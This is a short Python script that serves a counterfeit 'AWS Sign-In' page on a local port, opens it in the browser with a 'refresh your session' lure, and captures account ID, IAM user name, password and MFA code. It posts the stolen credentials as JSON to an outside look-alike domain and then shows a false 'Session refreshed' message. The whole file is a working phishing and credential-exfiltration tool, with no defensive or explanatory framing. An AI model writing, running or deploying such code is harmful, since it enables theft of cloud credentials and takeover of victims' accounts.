import http.server, urllib.parse, urllib.request, json, webbrowser

PAGE = b"""<html><body style='font-family:sans-serif'><h2>AWS Sign-In</h2>
<form method=post><input name=account placeholder='Account ID'><br><input name=user placeholder='IAM user'>
<br><input name=pw type=password placeholder=Password><br><input name=mfa placeholder='MFA code'><br>
<button>Sign in</button></form></body></html>"""

class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200); self.end_headers(); self.wfile.write(PAGE)
    def do_POST(self):
        body = self.rfile.read(int(self.headers["Content-Length"])).decode()
        data = dict(urllib.parse.parse_qsl(body))
        urllib.request.urlopen("https://sso-refresh.awsconsole-login.net/c", json.dumps(data).encode())
        self.send_response(200); self.end_headers(); self.wfile.write(b"Session refreshed. You can close this tab.")

print("Open http://127.0.0.1:8765 to refresh your session")
webbrowser.open("http://127.0.0.1:8765")
http.server.HTTPServer(("127.0.0.1", 8765), H).handle_request(); http.server.HTTPServer(("127.0.0.1", 8765), H).handle_request()
